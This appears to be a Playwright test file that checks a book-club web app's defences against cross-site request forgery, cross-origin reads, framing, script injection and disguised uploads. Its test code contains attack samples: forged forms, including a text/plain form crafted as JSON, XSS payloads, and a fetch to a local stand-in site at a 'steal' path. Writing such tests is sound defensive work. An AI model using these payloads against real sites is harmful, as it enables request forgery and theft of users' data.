import { afterAll, beforeAll, expect, test } from "bun:test";

import type { BrowserContext, Frame, Page } from "playwright-core";

import { sessionCookie } from "#tests/screens/screens.ts";
import { openBrowser } from "#tests/support/browser.ts";
import { ADMIN_PASSWORD, type RunningClub, startClub } from "#tests/support/executable.ts";
import { png } from "#tests/support/images.ts";
import { m4b } from "#tests/support/m4b.ts";
import { until } from "#tests/support/poll-until.ts";
import { everyRow } from "#tests/support/stored-rows.ts";

let club: RunningClub;
let context: BrowserContext;
let cover = "";
const browser = await openBrowser();
/** Requests to the other site. */
const outsideRequests: string[] = [];
/** Another web site: on the club's host at another port, and at another host. */
const otherSite = Bun.serve({
  port: 0,
  hostname: "127.0.0.1",
  fetch: (request) => {
    outsideRequests.push(new URL(request.url).pathname);
    return new Response("<!doctype html><title>elsewhere</title><body>", { headers: { "content-type": "text/html" } });
  },
});
const otherOrigins = ["127.0.0.1", "localhost"].map((host) => `http://${host}:${otherSite.port}/`);

beforeAll(async () => {
  club = await startClub();
  await club.makeAdmin();
  const cookie = await sessionCookie(club.url, "ada", ADMIN_PASSWORD);
  const headers = { cookie: `session=${cookie.value}` };
  const call = async (path: string, body: BodyInit, type?: string) => {
    const response = await fetch(club.url + path, {
      method: "POST",
      body,
      headers: { ...headers, ...(type && { "content-type": type }) },
    });
    if (!response.ok) throw new Error(await response.text());
    return (await response.json()) as { id: number; url: string };
  };
  const book = { title: "Emma", author: "Jane Austen", synopsis: "", month: "2026-01", isbn: "", coverImage: null };
  const fields = { ...book, audiobookNarrator: "", audiobookDuration: "" };
  const { id } = await call("/api/books", JSON.stringify(fields), "application/json");
  const file = (kind: string, name: string, bytes: Uint8Array) => {
    const form = new FormData();
    form.set("bookId", String(id));
    form.set(kind, new File([new Uint8Array(bytes)], name));
    return call(`/api/upload/${kind}`, form);
  };
  await file("audiobook", "emma.m4b", m4b({ seconds: 20 }));
  cover = (await file("cover", "emma.png", await png())).url;
  await call("/api/posts", JSON.stringify({ content: "A ripe Brie" }), "application/json");
  const page = await browser.page({ club });
  context = page.context();
  // the worst case: a session cookie that the browser would send from any site
  await context.addCookies([cookie, { ...cookie, url: club.url.replace("127.0.0.1", "localhost") }]);
  await page.close();
}, 300_000);
afterAll(async () => {
  await browser.close();
  await club.stop();
  await otherSite.stop(true);
});

/** A page on the other site, in a signed-in browser. */
async function visit(address: string): Promise<Page> {
  const page = await context.newPage();
  await page.goto(address);
  return page;
}

const FORM_CALLS = [
  "/api/auth/login",
  "/api/auth/register",
  "/api/auth/logout",
  "/api/posts",
  "/api/posts/restore",
  "/api/books",
  "/api/profile/password",
  "/api/profile/photo",
  "/api/upload/cover",
  "/api/upload/ebook",
  "/api/invitations",
  "/api/email/test",
  "/api/email/trigger-monthly",
];
const readRows = () => everyRow(club.storageDir, { seen: false });
const ENCODINGS = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];

test("changes nothing by forms of another site (C01)", async () => {
  await until(() => readRows()["books"]?.join().includes('"audiobook_checked_path":"books/') === true);
  const rowsBefore = readRows();
  expect(rowsBefore["posts"]?.join()).toContain("A ripe Brie");
  const statuses: [string, number][] = [];
  for (const address of otherOrigins) {
    const page = await visit(address);
    page.on("response", (response) => {
      if (response.request().method() === "POST")
        statuses.push([`${new URL(response.url()).pathname}`, response.status()]);
    });
    const forms = FORM_CALLS.flatMap((path) => ENCODINGS.map((encoding) => ({ action: club.url + path, encoding })));
    const requestCount = statuses.length + forms.length;
    await page.evaluate((forms) => {
      for (const [index, { action, encoding }] of forms.entries()) {
        const frame = Object.assign(document.createElement("iframe"), { name: `frame${index}` });
        const form = Object.assign(document.createElement("form"), { method: "post", action, target: frame.name });
        form.enctype = encoding;
        // this text/plain form is valid JSON
        const name = '{"content":"Bought ads","username":"eve","email":"eve@example.org","password":"secret","x":"';
        form.append(Object.assign(document.createElement("input"), { name, value: '"}' }));
        form.append(Object.assign(document.createElement("input"), { name: "username", value: "ada" }));
        document.body.append(frame, form);
        form.submit();
      }
    }, forms);
    await until(() => statuses.length >= requestCount);
    await page.close();
  }
  expect(statuses).toHaveLength(otherOrigins.length * FORM_CALLS.length * ENCODINGS.length);
  expect(statuses.filter(([, status]) => status !== 403 && status !== 415)).toEqual([]);
  expect(readRows()).toEqual(rowsBefore);
}, 300_000);

test("reads and changes nothing by other sites' scripts (C01, X03)", async () => {
  const rowsBefore = readRows();
  for (const address of otherOrigins) {
    const page = await visit(address);
    const readResults = await page.evaluate(async (club) => {
      const calls: [string, RequestInit][] = [
        ["/api/auth/user", {}],
        ["/api/posts", {}],
        ["/api/content", {}],
        ["/api/users", {}],
        ["/api/health", {}],
        ["/", {}],
        ["/api/download/audiobook/1", { headers: { Range: "bytes=0-9" } }],
        ["/api/posts", { method: "POST", body: '{"content":"Ads"}', headers: { "Content-Type": "application/json" } }],
        ["/api/posts", { method: "DELETE" }],
        ["/api/content", { method: "PATCH", body: '{"welcomeMessage":"Ads"}' }],
        ["/api/auth/logout", { method: "POST" }],
      ];
      const receivedUrls: string[] = [];
      for (const [path, init] of calls)
        await fetch(club + path, { ...init, credentials: "include" }).then(
          async (response) => receivedUrls.push(`${path}: ${await response.text()}`),
          () => undefined,
        );
      for (const mode of ["no-cors"] as const)
        for (const [path, init] of calls) {
          const answer = await fetch(club + path, { ...init, headers: {}, credentials: "include", mode }).catch(
            () => null,
          );
          if (answer && (answer.type !== "opaque" || answer.status !== 0)) receivedUrls.push(`${path}: ${answer.type}`);
        }
      return receivedUrls;
    }, club.url);
    expect(readResults).toEqual([]);
    await page.close();
  }
  expect(readRows()).toEqual(rowsBefore);
});

test("another site can't show our images or play audio (X03)", async () => {
  for (const address of otherOrigins) {
    const page = await visit(address);
    const outcomes = await page.evaluate(
      async ({ images, sound }) => {
        const awaitOutcome = (part: HTMLElement, loadEvent: string) =>
          new Promise<string>((resolve) => {
            part.addEventListener(loadEvent, () => resolve("seen"));
            part.addEventListener("error", () => resolve("nothing"));
          });
        const image = document.createElement("img");
        const audio = document.createElement("audio");
        const loads = [awaitOutcome(image, "load"), awaitOutcome(audio, "loadedmetadata")];
        image.src = images;
        audio.src = sound;
        return Promise.all(loads);
      },
      { images: club.url + cover, sound: `${club.url}/api/download/audiobook/1` },
    );
    expect(outcomes, address).toEqual(["nothing", "nothing"]);
    await page.close();
  }
  const ownPage = await visit(`${club.url}/`);
  const outcomes = await ownPage.evaluate(
    (address) =>
      new Promise<string>((resolve) => {
        const image = document.createElement("img");
        image.addEventListener("load", () => resolve("seen"));
        image.addEventListener("error", () => resolve("nothing"));
        image.src = address;
      }),
    cover,
  );
  expect(outcomes).toBe("seen");
  await ownPage.close();
});

test("another site can't frame the club (X03)", async () => {
  for (const address of otherOrigins) {
    const page = await visit(address);
    for (const path of ["/", "/auth", "/admin", cover, "/api/posts", "/api/calendar/meeting.ics"]) {
      const frame = await openFrame(page, club.url + path);
      const text = await frame.evaluate(() => document.body?.textContent ?? "").catch(() => "");
      expect(text, path).not.toMatch(/Synopses|Username|Brie|BEGIN/);
      expect(frame.url(), path).toStartWith("chrome-error://");
    }
    await page.close();
  }
});

/** Loads an address in a frame of the page, and waits until it has loaded or failed. */
async function openFrame(page: Page, address: string): Promise<Frame> {
  const navigation = page.waitForEvent("framenavigated", (frame) => frame !== page.mainFrame());
  await page.evaluate((address) => {
    const frame = document.createElement("iframe");
    frame.src = address;
    document.body.append(frame);
  }, address);
  return navigation;
}

test("injected markup doesn't run and isn't fetched (X02)", async () => {
  const page = await visit(`${club.url}/`);
  await page.getByRole("heading", { name: "Snacks & Drinks Board" }).waitFor();
  outsideRequests.length = 0;
  const outcome = await page.evaluate(async (scriptUrls) => {
    const brokenImages: string[] = [];
    document.addEventListener("securitypolicyviolation", (event) => brokenImages.push(event.effectiveDirective));
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    const remoteScript = Object.assign(document.createElement("script"), { src: `${scriptUrls}x.js` });
    const image = Object.assign(document.createElement("img"), { src: `${scriptUrls}x.png` });
    const frame = Object.assign(document.createElement("iframe"), { src: scriptUrls });
    const style = Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${scriptUrls}x.css` });
    const objectElement = Object.assign(document.createElement("object"), { data: `${scriptUrls}x.swf` });
    const baseElement = Object.assign(document.createElement("base"), { href: scriptUrls });
    document.body.append(script, remoteScript, image, frame, style, objectElement);
    document.head.append(baseElement);
    const handler = document.createElement("div");
    handler.innerHTML = '<b onclick="window.ran = true">x</b><a href="javascript:window.ran = true">y</a>';
    document.body.append(handler);
    for (const part of handler.querySelectorAll<HTMLElement>("b, a")) part.click();
    const form = Object.assign(document.createElement("form"), { action: scriptUrls, method: "post" });
    document.body.append(form);
    form.submit();
    await fetch(`${scriptUrls}steal`, { method: "POST", body: "x" }).catch(() => undefined);
    navigator.sendBeacon(`${scriptUrls}beacon`, "x");
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { broken: [...new Set(brokenImages)].toSorted(), ran: "ran" in globalThis, base: document.baseURI };
  }, otherOrigins[0] ?? "");
  expect(outcome.ran).toBe(false);
  expect(outcome.base).toStartWith(club.url);
  expect(outsideRequests).toEqual([]);
  expect(outcome.broken).toEqual([
    "base-uri",
    "connect-src",
    "form-action",
    "frame-src",
    "img-src",
    "object-src",
    "script-src-attr",
    "script-src-elem",
    "style-src-elem",
  ]);
  await page.close();
});

test("serves an image that runs nothing at a cover's URL (X03)", async () => {
  const page = await context.newPage();
  const answer = await page.goto(club.url + cover);
  expect(answer?.headers()).toMatchObject({ "content-type": "image/webp", "x-content-type-options": "nosniff" });
  expect(await page.evaluate(() => document.querySelectorAll("script, svg").length)).toBe(0);
  for (const [name, bytes] of [
    ["cover.svg", `<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`],
    ["cover.png", "<!doctype html><script>alert(1)</script>"],
  ] as const) {
    const refusedStatuses = await page.evaluate(
      async ({ name, bytes }) => {
        const form = new FormData();
        form.set("cover", new File([bytes], name, { type: "image/png" }));
        return (await fetch("/api/upload/cover", { method: "POST", body: form })).status;
      },
      { name, bytes },
    );
    expect(refusedStatuses).toBe(415);
  }
  await page.close();
});
